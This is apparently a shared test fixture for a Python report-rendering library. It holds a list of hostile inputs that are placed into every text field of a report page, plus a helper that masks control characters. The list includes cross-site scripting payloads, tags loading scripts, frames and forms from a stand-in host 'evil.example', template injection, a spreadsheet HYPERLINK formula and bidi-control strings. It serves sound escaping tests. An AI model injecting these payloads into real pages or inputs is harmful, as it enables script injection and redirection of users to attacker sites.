"""Pages that tests of reports share."""

import re

from PIL import Image

from apecache.report import Chart, Curve, Gallery, Page, QueryExample, Result, Table, thumbnail

PICTURE = thumbnail(Image.new("RGB", (8, 8), "red"))


HOSTILE = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "`onclick=alert(1)`",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=https://evil.example><button>x</button></form>",
    "{{ 7 * 7 }}{% include 'x' %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    '=HYPERLINK("https://evil.example","x")',
    "\u202eevil\u202d \u2067\u05e9\u05dc\u05d5\u05dd\u2066 \u0645\u0631\u062d\u0628\u0627",
    "\x00\x01<script\x0b>\x1b[31m\x7f\x85\x9f",
    "x" * 5000,
    "a\ud800b\udfff<script>\ud83d",
    "\ufffe\uffff\u2028\u2029\ufeff",
]


def page_of(text):
    """Put `text` in every place of a page that takes a text."""
    result = Result(image=PICTURE, text=text, score=0.5, correct=True)
    return Page(
        title=text,
        subtitle=text,
        commands=(text, text),
        tables=(
            Table(title=text, columns=(text, text), rows=((text, 1.0), (text, text)), note=text),
        ),
        charts=(
            Chart(
                title=text,
                x_label=text,
                y_label=text,
                curves=(Curve(name=text, points=((0, 1), (1, 2))),),
                marker=1,
                marker_label=text,
            ),
        ),
        galleries=(
            Gallery(
                title=text,
                note=text,
                items=(
                    QueryExample(query_text=text, query_image=PICTURE, results=(result,), rank=1),
                    QueryExample(query_text=text, query_image=None, results=(result,), rank=None),
                ),
            ),
        ),
        notes=(text,),
    )


def shown(text):
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]", "\ufffd", text)
